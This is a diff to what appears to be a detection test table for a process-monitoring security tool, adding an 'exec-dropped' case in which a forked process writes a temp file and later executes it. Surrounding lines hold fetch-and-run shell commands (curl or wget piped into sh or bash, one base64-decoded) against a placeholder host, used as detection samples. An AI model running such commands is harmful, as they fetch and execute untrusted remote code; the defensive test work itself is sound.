@@ -315,6 +315,16 @@ MATCHES: list[tuple[str, list[Event], Severity]] = [
         [writes(TMP, P1), execs("/usr/bin/python3", "python3", TMP, phase=P1)],
         Severity.HIGH,
     ),
+    (  # what wrote it became a build tool afterwards
+        "exec-dropped",
+        [
+            forks(120, P1),
+            writes(TMP, P1, pid=120),
+            execs("/usr/bin/make", "make", phase=P1, pid=120),
+            execs(TMP, phase=P1),
+        ],
+        Severity.HIGH,
+    ),
     ("exec-downloader", [shell("curl -s http://x.test/a | sh", P1)], Severity.HIGH),
     ("exec-downloader", [shell('bash -c "$(wget -qO- http://x.test)"', P1)], Severity.HIGH),
     ("exec-downloader", [shell("curl -s http://x.test | base64 -d | bash", P4)], Severity.MEDIUM),
